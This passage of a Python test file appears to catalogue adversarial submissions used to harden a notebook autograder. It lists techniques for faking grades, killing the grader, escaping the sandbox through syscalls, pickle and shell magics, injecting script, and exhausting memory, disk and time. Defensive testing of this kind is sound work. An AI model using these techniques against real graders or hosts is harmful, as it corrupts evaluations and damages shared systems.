        "answer keys left in memory by the grader",
    ),
    # -- writes ----------------------------------------------------------------------------------
    Attack(
        "write",
        "write the gradebook, records, other students, hidden tests, repo, home, site-packages",
        "quiz6",
        "wrong",
        {END: WRITE_EVERYWHERE},
        "a better grade written directly, others' grades spoilt",
        check="fast",
    ),
    Attack(
        "symlink",
        "symlinks/hard links in the scratch folder to the gradebook and autograder/, locked "
        "folders, a 3000-deep tree, 20,000 files",
        "quiz6",
        "wrong",
        {END: SYMLINKS_IN_SCRATCH},
        "the cleanup or the grader follows them",
    ),
    # -- fake results, exits, signals ----------------------------------------------------------
    Attack(
        "exitos",
        "print a fake result everywhere (stdout, fds, /proc/*/fd/1, /dev/tty) then os._exit(0)",
        "lab6",
        "wrong",
        {END: EXIT_OS},
        "the fake result read as the real one",
        check="fast",
    ),
    Attack(
        "exitsys",
        "print a fake result everywhere then sys.exit/exit/SystemExit",
        "lab6",
        "wrong",
        {END: EXIT_SYS},
        "the fake result read as the real one",
        check="fast",
    ),
    Attack(
        "killpar",
        "SIGKILL to the parent, pid 1 and the parent's group",
        "quiz6",
        "wrong",
        {END: KILL_PARENT},
        "the grader dies, the batch stops",
        check="fast",
    ),
    Attack(
        "stoppar",
        "SIGSTOP/SIGTSTP to the parent, pid 1 and the parent's group",
        "quiz6",
        "wrong",
        {END: STOP_PARENT},
        "the grader hangs",
        check="fast",
    ),
    Attack(
        "killpg",
        "kill(-1, 0), signal 0 to every pid, SIGKILL to every process and to my group",
        "quiz6",
        "wrong",
        {END: KILLPG},
        "everyone else's grading dies",
        check="fast",
    ),
    Attack(
        "crash",
        "segfault the child (ctypes.string_at(0))",
        "quiz6",
        "correct",
        {END: CRASH},
        "a crash mistaken for a pass",
        check="fast",
    ),
    # -- network --------------------------------------------------------------------------------
    Attack(
        "net",
        "TCP/UDP to loopback, UNIX by path and abstract, AF_VSOCK, AF_NETLINK, AF_PACKET, raw IP",
        "quiz6",
        "wrong",
        {END: NETWORK},
        "exfiltrate, or reach a host service",
        check="fast",
    ),
    Attack(
        "netc",
        "socket()/connect() through libc and raw syscalls",
        "quiz6",
        "wrong",
        {END: NETWORK_CTYPES},
        "get around a Python-level block",
    ),
    # -- processes --------------------------------------------------------------------------------
    Attack(
        "forks",
        "os.fork storm (64 sleepers)",
        "quiz6",
        "wrong",
        {END: FORK_STORM},
        "processes that outlive",
        check="fast",
    ),
    Attack(
        "spawn",
        "subprocess, posix_spawn, os.system, multiprocessing, pty.spawn, execv",
        "quiz6",
        "wrong",
        {END: SPAWNERS},
        "processes that outlive",
        check="fast",
    ),
    Attack(
        "cfork",
        "fork/clone/clone3 through libc and raw syscalls",
        "quiz6",
        "wrong",
        {END: FORK_CTYPES},
        "get around a Python-level block",
    ),
    Attack(
        "daemon",
        "double fork + setsid, non-daemon threads, atexit, __del__, weakref.finalize",
        "quiz6",
        "wrong",
        {END: DAEMONS},
        "a daemon that outlives the run",
        check="fast",
    ),
    Attack(
        "ctypes",
        "ctypes: /proc/<ppid>/mem, kill/tgkill/ptrace/unshare/mount/io_uring/bpf via libc",
        "quiz6",
        "wrong",
        {END: CTYPES_TRICKS},
        "escape through syscalls Python does not offer",
    ),
    Attack(
        "signals",
        "SIGALRM interval timer raising in probes, ignored/blocked signals",
        "lab6",
        "wrong",
        SIGNAL_TRICKS,
        "probes interrupted, timeouts disabled",
        check="fast",
    ),
    # -- pickling -------------------------------------------------------------------------------
    Attack(
        "picklab",
        "__reduce__ bait on a model attribute, extra state, a buffer subclass, a return value, model.pt",
        "lab6",
        "wrong",
        PICKLE_BAIT_LAB6,
        "code execution on the trusted side",
        honest=PICKLE_BAIT_LAB6_HONEST,
    ),
    Attack(
        "pickquiz",
        "__reduce__ bait in answer values (str, int, list subclasses, in a set)",
        "quiz6",
        "wrong",
        PICKLE_BAIT_QUIZ,
        "code execution on the trusted side",
    ),
    # -- notebook syntax and metadata ------------------------------------------------------------
    Attack(
        "ipython",
        "!shell, %system, %%bash, %%writefile, %run/%load of hidden tests, %pip",
        "lab6",
        "wrong",
        {END: IPYTHON_CHECK},
        "shell escapes run, hidden tests loaded",
        extra_cells=IPYTHON_ESCAPES,
    ),
    Attack(
        "metapts",
        "nbgrader metadata: points 1000, answer cells graded, an extra 'bonus' grade cell",
        "lab6",
        "wrong",
        {},
        "points taken from the student's metadata",
        tamper="points",
    ),
    Attack(
        "metakern",
        "kernelspec bash with a shell cell",
        "lab6",
        "wrong",
        {},
        "cells run by another kernel",
        extra_cells=("touch /tmp/{MARK}-kernel",),
        tamper="kernel",
    ),
    Attack(
        "html",
        "HTML/JS and terminal escapes in errors, prints and layer names",
        "lab6",
        "wrong",
        HTML_INJECTION,
        "script in a TA's browser, a spoofed terminal",
    ),
    # -- big things ---------------------------------------------------------------------------------
    Attack(
        "values",
        "values too big or too deep: 50 MB str, 10^200000, 2M-tuple, 400 MB tensor, depth 50000",
        "quiz6",
        "wrong",
        VALUE_BOMBS,
        "the trusted side exhausted or crashed",
        check="fast",
    ),
    Attack(
        "flood",
        "100 MB on stdout, 20 MB on stderr, 200,000 lines, a 20 MB exception",
        "lab6",
        "wrong",
        {END: OUTPUT_FLOOD},
        "the grader or the TA's disk flooded",
        check="fast",
    ),
    Attack(
        "membomb",
        "allocate up to 8 GiB at top level",
        "quiz6",
        "wrong",
        {END: MEMORY_BOMB},
        "the host out of memory",
    ),
    Attack(
        "memfwd",
        "allocate 8 GiB inside forward",
        "lab6",
        "wrong",
        {"cnn_answer": MEMORY_BOMB_FORWARD},
        "the host out of memory during a probe",
        honest={"cnn_answer": MEMORY_BOMB_FORWARD_HONEST},
    ),
    Attack(
        "tmpfs",
        "fill /dev/shm, /tmp and the scratch folder (RAM-backed?) with 1 GiB each",
        "quiz6",
        "wrong",
        {END: TMPFS_FILL},
        "host memory taken through a tmpfs",
        slow=True,
        check="",
    ),
    Attack(
        "disk",
        "fill the scratch folder with 60 MB files (2.4 GiB), one 240 MB file",
        "quiz6",
        "wrong",
        {END: DISK_FILL},
        "the host's disk filled",
        slow=True,
        check="",
    ),
    # -- time (each costs a full timeout: only two also go through check) ---------------------------
    Attack(
        "looptop",
        "while True: pass at top level",
        "quiz6",
        "wrong",
        {END: LOOP_TOP},
        "the batch stalls",
        slow=True,
    ),
    Attack(
        "sleeptop",
        "time.sleep(10**6) at top level",
        "quiz6",
        "wrong",
        {END: SLEEP_TOP},
        "the batch stalls",
        slow=True,
        check="",
    ),
    Attack(
        "loophard",
        "a loop that catches every exception with every signal ignored and blocked",
        "quiz6",
        "wrong",
        {END: LOOP_UNINTERRUPTIBLE},
        "a timeout that cannot be delivered",
        slow=True,
        check="",
    ),
    Attack(
        "selfstop",
        "the child stops itself (SIGSTOP)",
        "quiz6",
        "wrong",
        {END: SELF_STOP},
        "a child that never answers",
        slow=True,
        check="",
    ),
    Attack(
        "loopfunc",
        "conv_output_size loops forever when the grader calls it (a probed function)",
        "lab6",
        "wrong",
        {"conv_output_size_answer": LOOP_IN_FUNCTION, END: ARM_LOOPS},
        "every probe hangs",
        slow=True,
    ),
    Attack(
        "loopfwd",
        "CNN traces as the lecture's CNN, but its forward loops forever when run",
        "lab6",
        "wrong",
        {"cnn_answer": LOOP_IN_FORWARD},
        "graded on the traced graph while the reproduction probe hangs",
        slow=True,
        check="",
    ),
)

BY_CODE = {a.code: a for a in ATTACKS}
assert len(BY_CODE) == len(ATTACKS), "attack codes must be unique"
